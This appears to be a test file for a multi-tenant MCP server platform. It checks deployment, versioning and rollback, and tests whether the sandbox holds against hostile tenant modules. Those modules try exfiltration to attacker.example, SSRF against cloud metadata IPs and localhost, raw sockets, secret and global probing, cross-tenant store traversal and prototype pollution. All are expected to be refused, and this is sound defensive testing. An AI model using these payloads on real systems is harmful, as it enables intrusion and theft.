/**
 * Tenant-deployed servers (docs/tenant-servers.md): deploy, versions, rollback,
 * health view, both lanes, and escape attempts. Each escape is a hostile tenant's
 * module; each must fail with a clear error, and a well-behaved tenant's session,
 * opened before the attacks, must keep working after every one of them.
 *
 * Two runaway cases cannot run here: workerd as run locally (and by this plugin)
 * enforces no CPU or memory limit, so an endless loop would stall every test and a
 * memory bomb would crash the runtime. They live in the real-deployment tier
 * (test/deployed/deployment.test.ts, `pnpm test:deployed`), where the loader's
 * `limits.cpuMs` and the isolate's memory limit end them (see docs/tenant-servers.md).
 */
import { SELF, runDurableObjectAlarm } from "cloudflare:test";
import { beforeAll, describe, expect, it } from "vitest";
import bookmarksSource from "../../../examples/bookmarks.js?raw";
import converterSource from "../../../examples/unit-converter.js?raw";
import {
  ADMIN_TOKEN,
  ORIGIN,
  adminOk,
  callTool,
  expectNoStackTrace,
  mcpFetch,
  mcpUrl,
  openSession,
  provisionTenant,
  request,
  statelessFetch,
  statelessMeta,
  statelessTool,
  responseMessage,
  sessionStub,
  textOf,
  type Session,
  type Tenant,
  flushReports,
} from "./helpers";

// --- helpers ------------------------------------------------------------------------

function deploy(tenant: string, server: string, source: string, contentType = "application/javascript"): Promise<Response> {
  return SELF.fetch(`${ORIGIN}/admin/v1/tenants/${tenant}/servers/${server}/deployments`, {
    method: "PUT",
    headers: { Authorization: `Bearer ${ADMIN_TOKEN}`, "Content-Type": contentType },
    body: source,
  });
}

async function deployOk(tenant: string, server: string, source: string): Promise<any> {
  const res = await deploy(tenant, server, source);
  const text = await res.text();
  expect([200, 201], text).toContain(res.status);
  return JSON.parse(text);
}

async function deployRefused(tenant: string, server: string, source: string, status = 400): Promise<string> {
  const res = await deploy(tenant, server, source);
  const text = await res.text();
  expect(res.status, text).toBe(status);
  // The tenant's own positions (tenant.js:1:26) help its author; nothing of the platform's shows.
  expect(text).not.toMatch(/\n\s+at |\.ts:\d+|node_modules|harness\.js/);
  return JSON.parse(text).error.message;
}

/** A module with one tool whose handler body is `body` (it may use `args`, `ctx` and `env`). */
const oneTool = (body: string, prelude = "") => `
import { env } from "cloudflare:workers";
${prelude}
export default { tools: [{ name: "run", description: "hostile", inputSchema: { type: "object" }, async handler(args, ctx) { ${body} } }] };
`;

/** `tools/call` that must come back as a JSON-RPC error (not a tool result). */
async function rpcError(session: Session, name: string, args: Record<string, unknown> = {}): Promise<{ code: number; message: string }> {
  const message = await request(session, "tools/call", { name, arguments: args });
  expect(message.result, JSON.stringify(message)).toBeUndefined();
  expectNoStackTrace(JSON.stringify(message.error));
  return message.error;
}

/** `tools/call` that must come back as a tool error result. */
async function toolError(session: Session, name: string, args: Record<string, unknown> = {}): Promise<string> {
  const result = await callTool(session, name, args);
  expect(result.isError, JSON.stringify(result)).toBe(true);
  return textOf(result);
}

// --- a well-behaved neighbour -----------------------------------------------------------

let good: Tenant;
let goodSession: Session;

/** The neighbour still converts units (on its session opened before the attacks) and still has its notes. */
async function neighbourStillWorks(): Promise<void> {
  const result = await callTool(goodSession, "convert", { value: 1, from: "km", to: "m" });
  expect(result.structuredContent).toEqual({ value: 1000, unit: "m" });
  expect((await callTool(await goodNotes, "list_notes")).structuredContent.notes.map((n: any) => n.title)).toEqual(["neighbour's note"]);
}
let goodNotes: Promise<Session>;

beforeAll(async () => {
  good = await provisionTenant({ prefix: "good", servers: ["notes"] });
  await deployOk(good.tenant, "units", converterSource);
  goodSession = await openSession(mcpUrl(good.tenant, "units"), good.key);
  goodNotes = openSession(mcpUrl(good.tenant, "notes"), good.key);
  await callTool(await goodNotes, "add_note", { title: "neighbour's note", body: "secret-of-the-neighbour" });
});

// --- deploy, versions, rollback ----------------------------------------------------------------

describe("deploy", () => {
  it("deployed:sandbox lanes:by-era — a deployed module is served with tools, resources and prompts on both lanes", async () => {
    const t = await provisionTenant({ prefix: "dep", servers: [] });
    const created = await deployOk(t.tenant, "units", converterSource);
    expect(created).toMatchObject({ server: "units", version: 1, status: "active", tools: ["convert", "list_units"], resources: ["units://table"] });
    expect(created.hash).toMatch(/^[0-9a-f]{64}$/);

    const session = await openSession(mcpUrl(t.tenant, "units"), t.key);
    const listed = await request(session, "tools/list");
    expect(listed.result.tools.map((tool: any) => tool.name)).toEqual(["convert", "list_units"]);
    expect(listed.result.tools[0].inputSchema.required).toEqual(["value", "from", "to"]);
    expect((await callTool(session, "convert", { value: 212, from: "f", to: "c" })).structuredContent).toEqual({ value: 100, unit: "c" });
    expect(await toolError(session, "convert", { value: 1, from: "kg", to: "m" })).toBe("Cannot convert mass (kg) to length (m)");
    const read = await request(session, "resources/read", { uri: "units://table" });
    expect(JSON.parse(read.result.contents[0].text).temperature).toEqual(["c", "f", "k"]);
    const prompt = await request(session, "prompts/get", { name: "explain_conversion", arguments: { from: "km", to: "mi" } });
    expect(prompt.result.messages[0].content.text).toContain("from km to mi");

    const stateless = await statelessTool(mcpUrl(t.tenant, "units"), t.key, "convert", { value: 1, from: "mi", to: "km" });
    expect(stateless.structuredContent).toEqual({ value: 1.609344, unit: "km" });

    // The session shows up in the admin views like any other.
    const sessions = await adminOk("GET", `/tenants/${t.tenant}/sessions`);
    expect(sessions.sessions.map((s: any) => s.server)).toEqual(["units"]);
    const requests = await adminOk("GET", `/tenants/${t.tenant}/sessions/${session.sessionId}/requests`);
    expect(requests.requests.map((e: any) => [e.method, e.tool, e.status])).toEqual([
      ["initialize", null, "ok"],
      ["tools/list", null, "ok"],
      ["tools/call", "convert", "ok"],
      // A tool error (isError) is an answered call.
      ["tools/call", "convert", "ok"],
      ["resources/read", null, "ok"],
      ["prompts/get", null, "ok"],
    ]);
  });

  it("deployed:deployments-api — the module may come as JSON {module}; the same bytes again are not a new version", async () => {
    const t = await provisionTenant({ prefix: "json", servers: [] });
    const res = await deploy(t.tenant, "units", JSON.stringify({ module: converterSource }), "application/json");
    expect(res.status).toBe(201);
    const again = await deployOk(t.tenant, "units", converterSource);
    expect(again.version).toBe(1);
    expect((await adminOk("GET", `/tenants/${t.tenant}/servers/units/deployments`)).deployments).toHaveLength(1);
  });

  it("untrusted:messages — arguments that fail the tool's JSON Schema are refused with -32602 before tenant code runs", async () => {
    const session = await openSession(mcpUrl(good.tenant, "units"), good.key);
    const error = await rpcError(session, "convert", { value: "one", from: "km", to: "m" });
    expect(error.code).toBe(-32602);
    expect(error.message).toMatch(/Invalid arguments for tool convert/);
  });

  it("deployed:deployments-api — syntax errors, wrong exports, load-time throws and oversize modules get 400 and the running version keeps serving", async () => {
    const t = await provisionTenant({ prefix: "bad", servers: [] });
    await deployOk(t.tenant, "units", converterSource);
    const session = await openSession(mcpUrl(t.tenant, "units"), t.key);

    expect(await deployRefused(t.tenant, "units", "export default { tools: [ }")).toMatch(/failed to load: .*SyntaxError/);
    expect(await deployRefused(t.tenant, "units", "export const tools = [];")).toMatch(/default export must be an object/);
    expect(await deployRefused(t.tenant, "units", oneTool("return 1").replace("async handler(args, ctx)", "handle(args, ctx)"))).toMatch(
      /handler must be a function/,
    );
    expect(await deployRefused(t.tenant, "units", 'throw new Error("no config"); export default {};')).toMatch(/failed to load: .*no config/);
    expect(await deployRefused(t.tenant, "units", "export default { tools: [] };")).toMatch(/declares no tools, resources or prompts/);
    expect(
      await deployRefused(t.tenant, "units", 'export default { tools: [{ name: "bad name!", inputSchema: { type: "object" }, handler() {} }] };'),
    ).toMatch(/tools\.0\.name/);
    expect(
      await deployRefused(t.tenant, "units", `export default { tools: [{ name: "t", description: "d".repeat(300000), handler() {} }] };`),
    ).toMatch(/answered more than 262144 bytes/);
    expect(await deployRefused(t.tenant, "units", `export default {}; // ${"x".repeat(1024 * 1024)}`)).toMatch(/larger than 1048576 bytes/);
    expect(await deployRefused(t.tenant, "notes", converterSource, 409)).toMatch(/built-in server/);

    const view = await adminOk("GET", `/tenants/${t.tenant}/servers/units`);
    expect(view).toMatchObject({ kind: "deployed", version: 1, status: "serving", versions: 1 });
    expect((await callTool(session, "convert", { value: 2, from: "kg", to: "g" })).structuredContent.value).toBe(2000);
    const audit = await adminOk("GET", `/tenants/${t.tenant}/audit`);
    // Every refusal after the body was read is audited (the oversize one never got that far).
    expect(audit.entries.filter((e: any) => e.action === "deployment.refused")).toHaveLength(7);
  });

  it("deployed:deployments-api — versions are kept, listed and re-activated with one call", async () => {
    const t = await provisionTenant({ prefix: "roll", servers: [] });
    await deployOk(t.tenant, "svc", oneTool('return "v1 answer"'));
    const v2 = await deployOk(t.tenant, "svc", oneTool('return "v2 answer"'));
    expect(v2.version).toBe(2);
    expect(textOf(await statelessTool(mcpUrl(t.tenant, "svc"), t.key, "run"))).toBe("v2 answer");

    const list = await adminOk("GET", `/tenants/${t.tenant}/servers/svc/deployments`);
    expect(list.deployments.map((d: any) => [d.version, d.status])).toEqual([
      [2, "active"],
      [1, "inactive"],
    ]);
    const activated = await adminOk("POST", `/tenants/${t.tenant}/servers/svc/deployments/1/activate`);
    expect(activated).toMatchObject({ version: 1, status: "active" });
    expect(textOf(await statelessTool(mcpUrl(t.tenant, "svc"), t.key, "run"))).toBe("v1 answer");
    const session = await openSession(mcpUrl(t.tenant, "svc"), t.key);
    expect(textOf(await callTool(session, "run"))).toBe("v1 answer");

    const one = await adminOk("GET", `/tenants/${t.tenant}/servers/svc/deployments/2?source=1`);
    expect(one.source).toContain("v2 answer");
    expect(one.manifest.tools[0].name).toBe("run");
    expect((await SELF.fetch(`${ORIGIN}/admin/v1/tenants/${t.tenant}/servers/svc/deployments/9/activate`, { method: "POST", headers: { Authorization: `Bearer ${ADMIN_TOKEN}` } })).status).toBe(404);
  });

  it("deployed:deployments-api admin:servers — the server view shows version, status, error rate and the last errors", async () => {
    const t = await provisionTenant({ prefix: "health", servers: [] });
    await deployOk(t.tenant, "flaky", oneTool('if (args.fail) throw new Error("upstream said no"); return "fine"'));
    const session = await openSession(mcpUrl(t.tenant, "flaky"), t.key);
    await callTool(session, "run");
    expect(await toolError(session, "run", { fail: true })).toBe("upstream said no");
    // The figures come from the metrics rollups, which the session's next report feeds (its alarm, run now).
    expect(await runDurableObjectAlarm(sessionStub(t.tenant, "flaky", session.sessionId))).toBe(true);
    // The report went to the session's report shard; its flush (5 s later) brings it to the tenant.
    await flushReports(t.tenant);

    const view = await adminOk("GET", `/tenants/${t.tenant}/servers/flaky`);
    expect(view).toMatchObject({ server: "flaky", kind: "deployed", enabled: true, version: 1, status: "serving", calls: 2, errors: 1, errorRate: 0.5, latencyMs: { p50: expect.any(Number), p95: expect.any(Number) } });
    expect(view.lastErrors[0]).toMatchObject({ version: 1, kind: "tenant", message: "tool run: upstream said no" });
    expect(await adminOk("GET", `/tenants/${t.tenant}/servers/notes`)).toEqual({ server: "notes", kind: "built-in", enabled: false });
  });
});

// --- escapes ---------------------------------------------------------------------------------

describe("escapes", () => {
  let evil: Tenant;
  beforeAll(async () => {
    evil = await provisionTenant({ prefix: "evil", servers: [] });
  });

  async function hostile(server: string, source: string): Promise<Session> {
    await deployOk(evil.tenant, server, source);
    return openSession(mcpUrl(evil.tenant, server), evil.key);
  }

  it("deployed:sandbox — the sandbox sees only its own capability and names, no platform binding, secret or global", async () => {
    const session = await hostile(
      "snoop",
      oneTool(`
        const seen = {
          env: Object.keys(env),
          processEnv: typeof process === "object" ? Object.keys(process.env ?? {}) : null,
          globals: Object.getOwnPropertyNames(globalThis).filter((k) => /SMCP|SESSION|TENANT|DIRECTORY|LOADER|OAUTH|ADMIN/i.test(k)),
          storeProps: [],
          cache: await caches.default.put("https://smcp.test/poisoned", new Response("x")).then(() => "written", (e) => "refused: " + e.message),
        };
        for (const p of ["env", "ctx", "props"]) {
          try { seen.storeProps.push([p, typeof (await env.STORE[p])]); } catch (e) { seen.storeProps.push([p, "refused"]); }
        }
        return seen;`),
    );
    const seen = (await callTool(session, "run")).structuredContent;
    expect(seen.env.sort()).toEqual(["SERVER", "STORE", "TENANT"]);
    expect(seen.processEnv ?? []).not.toContain("SMCP_ADMIN_TOKEN");
    expect(seen.globals).toEqual([]);
    expect(seen.cache).toBe("refused: No Cache was configured");
    expect(seen.storeProps).toEqual([
      ["env", "refused"],
      ["ctx", "refused"],
      ["props", "refused"],
    ]);
    await neighbourStillWorks();
  });

  it("deployed:sandbox platform:error-messages — no allow-list means no network; an allow-list lets only its hosts through; each refusal names the host and the call that allows it", async () => {
    const session = await hostile("exfil", oneTool("const r = await fetch(args.url); return String(r.status);"));
    expect(await toolError(session, "run", { url: "https://attacker.example/steal" })).toBe(
      `SMCP egress: https://attacker.example is not on the allow-list of server exfil, which allows no host yet; to allow it: PUT /admin/v1/tenants/${evil.tenant}/servers/exfil/egress {"allow":["attacker.example"]}`,
    );
    expect(await toolError(session, "run", { url: `${ORIGIN}/admin/v1/tenants` })).toBe(
      `SMCP egress: ${ORIGIN} is not on the allow-list of server exfil, which allows no host yet; to allow it: PUT /admin/v1/tenants/${evil.tenant}/servers/exfil/egress {"allow":["smcp.test"]}`,
    );

    await adminOk("PUT", `/tenants/${evil.tenant}/servers/exfil/egress`, { allow: ["api.allowed.example", "*.cdn.example"] });
    const again = await openSession(mcpUrl(evil.tenant, "exfil"), evil.key);
    for (const url of ["https://attacker.example/x", "https://api.allowed.example.attacker.example/", "https://cdn.example/", "https://api.allowed.example:8443/"]) {
      expect(await toolError(again, "run", { url })).toMatch(/SMCP egress: .* is not on the allow-list of server exfil/);
    }
    expect(await toolError(again, "run", { url: "https://attacker.example/x" })).toBe(
      `SMCP egress: https://attacker.example is not on the allow-list of server exfil (allowed: api.allowed.example, *.cdn.example); to allow it: PUT /admin/v1/tenants/${evil.tenant}/servers/exfil/egress {"allow":["api.allowed.example","*.cdn.example","attacker.example"]}`,
    );

    // IP literals, in whatever form, and loopback hosts are refused by the outbound itself.
    for (const url of ["http://169.254.169.254/latest", "http://2852039166/latest", "http://[fd00::1]/"]) {
      expect(await toolError(again, "run", { url })).toMatch(/^SMCP egress: http:\/\/\S+ is an IP address; a sandbox may fetch only host names on its allow-list$/);
    }
    expect(await toolError(again, "run", { url: "http://localhost:8787/admin/v1/tenants" })).toBe("SMCP egress: http://localhost:8787 is a loopback host, which a sandbox may never fetch");
    const view = await adminOk("GET", `/tenants/${evil.tenant}/servers/exfil`);
    expect(view.egress).toEqual(["api.allowed.example", "*.cdn.example"]);
    expect((await admin400(`/tenants/${evil.tenant}/servers/exfil/egress`, { allow: ["https://x.example/path"] })).error.code).toBe("invalid_egress");
    for (const [entry, reason] of [
      ["169.254.169.254", '"169.254.169.254" is an IP address; the allow-list takes host names only'],
      ["0xa9fea9fe", '"0xa9fea9fe" is an IP address (it means 169.254.169.254); the allow-list takes host names only'],
      ["[::1]", '"[::1]" is a loopback host; loopback egress is allowed only when the platform runs with SMCP_ALLOW_LOOPBACK_EGRESS'],
      ["localhost:8787", '"localhost:8787" is a loopback host; loopback egress is allowed only when the platform runs with SMCP_ALLOW_LOOPBACK_EGRESS'],
      ["*.co.uk", '"*.co.uk" would allow every domain under the public suffix "co.uk"; list the domains themselves'],
    ]) {
      expect((await admin400(`/tenants/${evil.tenant}/servers/exfil/egress`, { allow: ["api.allowed.example", entry] })).error).toEqual({ code: "invalid_egress", message: reason });
    }
    expect((await adminOk("GET", `/tenants/${evil.tenant}/servers/exfil`)).egress).toEqual(["api.allowed.example", "*.cdn.example"]);
    await neighbourStillWorks();
  });

  it("deployed:sandbox — connect() gets a closed socket, with or without an allow-list: no byte leaves", async () => {
    const source = oneTool(
      `const s = connect(args.to);
       await s.opened;
       await s.writable.getWriter().write(new TextEncoder().encode("EHLO attacker\\r\\n"));
       const read = await s.readable.getReader().read();
       return "got " + JSON.stringify(read);`,
      'import { connect } from "cloudflare:sockets";',
    );
    const session = await hostile("socket", source);
    // Sockets meet the same outbound with or without a list: closed unused.
    expect(await toolError(session, "run", { to: "example.com:25" })).toBe("Network connection lost.");
    await adminOk("PUT", `/tenants/${evil.tenant}/servers/socket/egress`, { allow: ["example.com"] });
    const again = await openSession(mcpUrl(evil.tenant, "socket"), evil.key);
    expect(await toolError(again, "run", { to: "example.com:443" })).toBe("Network connection lost.");
    await neighbourStillWorks();
  });

  it("deployed:sandbox isolation:tenants — the store capability reaches only this tenant's and this server's data", async () => {
    // The neighbour runs the same module under the same server name, with a secret in it.
    const vault = oneTool(`
      if (args.put) { await ctx.store.put("secrets", args.put, { secret: args.put }); return "stored"; }
      const found = [];
      // The raw capability answers {ok, value} or {ok: false, error}; ctx.store unwraps it.
      const take = async (answer) => { const r = await answer; if (!r.ok) throw new Error(r.error); return r.value; };
      for (const c of ["secrets", "notes", "../secrets", "tool_data"]) found.push(...(await take(env.STORE.list(c, { limit: 500 }))));
      found.push(...(await take(env.STORE.search("notes", "secret"))));
      for (const attempt of [["good", "vault", "secrets"], [{ tenant: "x" }, "secrets"]]) {
        try { found.push(await take(env.STORE.get(...attempt))); } catch (e) { found.push("refused: " + e.message); }
      }
      return { found };`);
    await deployOk(good.tenant, "vault", vault);
    const neighbourVault = await openSession(mcpUrl(good.tenant, "vault"), good.key);
    await callTool(neighbourVault, "run", { put: "neighbour-secret" });

    const session = await hostile("vault", vault);
    const { found } = (await callTool(session, "run")).structuredContent;
    expect(JSON.stringify(found)).not.toContain("neighbour-secret");
    expect(JSON.stringify(found)).not.toContain("secret-of-the-neighbour");
    expect(found.filter((f: unknown) => typeof f === "string")).toEqual(["refused: collection must be a non-empty string of at most 100 characters"]);
    // And the neighbour's vault is intact and its own.
    const mine = (await callTool(neighbourVault, "run")).structuredContent.found;
    expect(JSON.stringify(mine)).toContain("neighbour-secret");
    // A deployed server is reachable only under its own tenant.
    const res = await mcpFetch(mcpUrl(evil.tenant, "units"), { key: evil.key, body: { jsonrpc: "2.0", id: 1, method: "initialize", params: {} } });
    expect(res.status).toBe(404);
    await neighbourStillWorks();
  });

  it("untrusted:messages — a handler that never settles ends that request with a JSON-RPC error", async () => {
    const session = await hostile("hang", oneTool("await new Promise(() => {});"));
    const error = await rpcError(session, "run");
    expect(error.code).toBe(-32603);
    expect(error.message).toMatch(/^Deployed server hang \(v1\) failed running tool run: .*hung/);
    await neighbourStillWorks();
  });

  it("deployed:sandbox — polluting the sandbox's built-ins and returning __proto__ keys touches nothing outside it", async () => {
    const session = await hostile(
      "pollute",
      oneTool(`
        const payload = JSON.parse('{"__proto__": {"isAdmin": true}, "constructor": {"prototype": {"isAdmin": true}}, "ok": 1}');
        Object.prototype.isAdmin = true;
        Array.prototype.map = () => { throw new Error("polluted map"); };
        JSON.parse = () => ({ hijacked: true });
        return payload;`),
    );
    const result = await callTool(session, "run");
    expect(result.content[0].type).toBe("text");
    expect(({} as any).isAdmin).toBeUndefined();
    expect([1, 2].map((x) => x * 2)).toEqual([2, 4]);
    expect(JSON.parse('{"a":1}')).toEqual({ a: 1 });
    // The platform (admin API, other tenants' sandboxes, built-in servers) is unaffected.
    expect((await adminOk("GET", `/tenants/${good.tenant}`)).id).toBe(good.tenant);
    await neighbourStillWorks();
  });

  it("untrusted:messages — a tool answering 50 MB gets a JSON-RPC error, nothing of it is kept", async () => {
    const session = await hostile("huge", oneTool('return "x".repeat(50 * 1024 * 1024);'));
    const error = await rpcError(session, "run");
    expect(error.code).toBe(-32603);
    expect(error.message).toBe("Deployed server huge (v1) failed running tool run: answered more than 1048576 bytes, the most one call may return; nothing of it was kept");
    const view = await adminOk("GET", `/tenants/${evil.tenant}/servers/huge`);
    expect(view.lastErrors[0]).toMatchObject({ kind: "too-large" });
    await neighbourStillWorks();
  });

  it("traces:propagate — a module's handler gets SMCP's span context as ctx.traceparent, in the caller's trace, on both lanes", async () => {
    const session = await hostile("traced", oneTool("return String(ctx.traceparent);"));
    const traceId = "4bf92f3577b34da6a3ce929d0e0e4736";
    const caller = `00-${traceId}-00f067aa0ba902b7-01`;
    const passedOn = new RegExp(`^00-${traceId}-(?!00f067aa0ba902b7)[0-9a-f]{16}-01$`);
    const call = { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "run", arguments: {} } };
    const res = await mcpFetch(session.url, { key: evil.key, sessionId: session.sessionId, protocolVersion: session.protocolVersion, headers: { traceparent: caller }, body: call });
    expect(textOf((await responseMessage(res)).result)).toMatch(passedOn);
    const stateless = await mcpFetch(session.url, {
      key: evil.key,
      headers: { "MCP-Protocol-Version": "2026-07-28", "Mcp-Method": "tools/call", "Mcp-Name": "run" },
      body: { ...call, params: { ...call.params, _meta: { ...statelessMeta(), traceparent: caller } } },
    });
    expect(textOf((await responseMessage(stateless)).result)).toMatch(passedOn);
  });

  it("untrusted:messages — a result that is not a valid MCP result is a JSON-RPC error, not passed on", async () => {
    const session = await hostile("forge", oneTool('return { content: [{ type: "evil", text: 1 }] };'));
    const error = await rpcError(session, "run");
    expect(error.message).toMatch(/not a valid MCP result/);
    const stateless = await statelessFetch(mcpUrl(evil.tenant, "forge"), evil.key, "tools/call", { name: "run", arguments: {} });
    expect((await responseMessage(stateless)).error.code).toBe(-32603);
    await neighbourStillWorks();
  });
});

async function admin400(path: string, body: unknown): Promise<any> {
  const res = await SELF.fetch(`${ORIGIN}/admin/v1${path}`, {
    method: "PUT",
    headers: { Authorization: `Bearer ${ADMIN_TOKEN}`, "Content-Type": "application/json" },
    body: JSON.stringify(body),
  });
  expect(res.status).toBe(400);
  return res.json();
}

describe("examples", () => {
  it("deployed:sandbox — the storage example deploys; its upstream is reachable only once allow-listed", async () => {
    const t = await provisionTenant({ prefix: "bm", servers: [] });
    const created = await deployOk(t.tenant, "bookmarks", bookmarksSource);
    expect(created.tools).toEqual(["save_bookmark", "list_bookmarks", "search_bookmarks", "delete_bookmark"]);
    const session = await openSession(mcpUrl(t.tenant, "bookmarks"), t.key);
    expect(await toolError(session, "save_bookmark", { url: "https://example.com/" })).toBe(
      `SMCP egress: https://example.com is not on the allow-list of server bookmarks, which allows no host yet; to allow it: PUT /admin/v1/tenants/${t.tenant}/servers/bookmarks/egress {"allow":["example.com"]}`,
    );
    expect((await callTool(session, "list_bookmarks")).structuredContent).toEqual({ bookmarks: [] });
  });
});
